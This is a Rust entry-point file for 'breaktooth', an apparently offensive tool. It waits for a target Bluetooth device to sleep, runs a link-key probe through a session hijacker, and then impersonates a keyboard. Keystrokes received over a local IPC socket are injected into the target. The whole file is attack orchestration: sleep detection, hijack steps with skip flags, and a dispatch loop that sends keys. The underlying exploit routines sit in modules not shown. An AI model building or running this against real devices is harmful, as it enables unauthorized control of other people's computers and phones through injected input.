//! `breaktooth` entry point.
//!
//! Runs the startup sequence against one target, then serves the IPC
//! endpoint and forwards every received key state to the HID interrupt
//! channel until Ctrl-C.
//!
//! # Architecture
//!
//! ```text
//! main()
//!  └─ require_root(), load_config()
//!  └─ StartupSequence::run()      -- sleep detection, link-key probe, channel connect
//!  └─ IpcServer::run()            -- accept loop, one reader task per client
//!  └─ dispatch loop               -- IpcRequest -> HidEmulationService::send_keys
//! ```
//!
//! The dispatch loop is the only owner of the service, so requests from any
//! number of IPC clients are applied strictly one after another.

use std::path::PathBuf;
use std::sync::{
    atomic::{AtomicBool, Ordering},
    Arc,
};
use std::time::Duration;

use anyhow::Context;
use bluer::Address;
use clap::Parser;
use tokio::sync::mpsc;
use tokio::time::timeout;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

use breaktooth_core::config::{load_config, DEFAULT_CONFIG_PATH};
use breaktooth_core::privilege::require_root;
use breaktooth_core::protocol::IpcRequest;
use breaktooth_emulator::application::bootstrap::{StartupError, StartupOptions, StartupSequence};
use breaktooth_emulator::application::hid_service::{
    load_service_record, HidEmulationService, ProfileSpec,
};
use breaktooth_emulator::application::hijack::SessionHijacker;
use breaktooth_emulator::application::sleep_monitor::SleepMonitor;
use breaktooth_emulator::infrastructure::bluetooth::{
    BluezPlatform, L2capProbeSockets, L2pingProbe,
};
use breaktooth_emulator::infrastructure::ipc::IpcServer;

/// Emulate a Bluetooth keyboard toward a sleeping target.
#[derive(Debug, Parser)]
#[command(name = "breaktooth", version, about)]
struct Cli {
    /// Bluetooth address of the target, e.g. `AA:BB:CC:DD:EE:FF`.
    target: Address,

    /// Configuration file.
    #[arg(short, long, env = "BREAKTOOTH_CONFIG", default_value = DEFAULT_CONFIG_PATH)]
    config: PathBuf,

    /// Do not wait for the target to enter sleep mode.
    #[arg(long)]
    skip_sleep_detection: bool,

    /// Do not run the link-key probe (and skip the settle delay).
    #[arg(long)]
    skip_hijack: bool,
}

/// How long the dispatch loop waits for a request before re-checking `running`.
const DISPATCH_POLL: Duration = Duration::from_millis(200);

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();
    require_root()?;

    let config = load_config(&cli.config)
        .with_context(|| format!("loading {}", cli.config.display()))?;

    // Initialise structured logging.  `RUST_LOG` overrides the configured level.
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| EnvFilter::new(&config.log.level)),
        )
        .init();

    info!(target = %cli.target, "Breaktooth starting");

    // Shutdown flag.
    let running = Arc::new(AtomicBool::new(true));

    // ── Ctrl-C handler ────────────────────────────────────────────────────────
    let running_clone = Arc::clone(&running);
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            info!("shutdown signal received");
            running_clone.store(false, Ordering::Relaxed);
        }
    });

    // ── HID service ───────────────────────────────────────────────────────────
    let record = load_service_record(&config.emulator.sdp_record_path).await?;
    let platform = BluezPlatform::connect(&config.emulator.adapter)
        .await
        .with_context(|| format!("opening adapter {}", config.emulator.adapter))?;
    let mut service = HidEmulationService::new(
        platform,
        ProfileSpec::keyboard(record),
        config.emulator.device_class,
    );

    // ── Startup sequence ──────────────────────────────────────────────────────
    let monitor = SleepMonitor::new(
        L2pingProbe::new(&config.sleep_monitor.l2ping_path),
        config.sleep_monitor.probe_interval(),
    );
    let hijacker = SessionHijacker::new(L2capProbeSockets);
    let sequence = StartupSequence {
        monitor: &monitor,
        hijacker: &hijacker,
        options: StartupOptions {
            skip_sleep_detection: cli.skip_sleep_detection,
            skip_hijack: cli.skip_hijack,
            ..StartupOptions::from_config(&config.hijack)
        },
    };

    match sequence.run(cli.target, &mut service, &running).await {
        Ok(()) => {}
        Err(StartupError::SleepMonitor(e)) => {
            info!("{e}");
            return Ok(());
        }
        Err(e) => return Err(e).context("startup failed"),
    }

    // ── IPC endpoint ──────────────────────────────────────────────────────────
    let server = IpcServer::bind(&config.ipc.socket_path)?;
    let (tx, mut rx) = mpsc::channel::<IpcRequest>(64);
    let server_task = tokio::spawn(server.run(tx, Arc::clone(&running)));

    // ── Dispatch loop ─────────────────────────────────────────────────────────
    info!("Breaktooth ready. Waiting for key states…");

    while running.load(Ordering::Relaxed) {
        let req = match timeout(DISPATCH_POLL, rx.recv()).await {
            Ok(Some(req)) => req,
            Ok(None) => break,
            Err(_) => continue,
        };
        match req {
            IpcRequest::SendKeys(msg) => {
                if let Err(e) = service.send_keys(msg.modifiers, &msg.keys).await {
                    warn!("send_keys rejected: {e}");
                }
            }
        }
    }

    service.close();
    if let Err(e) = server_task.await {
        warn!("IPC task ended abnormally: {e}");
    }
    info!("Breaktooth stopped");
    Ok(())
}
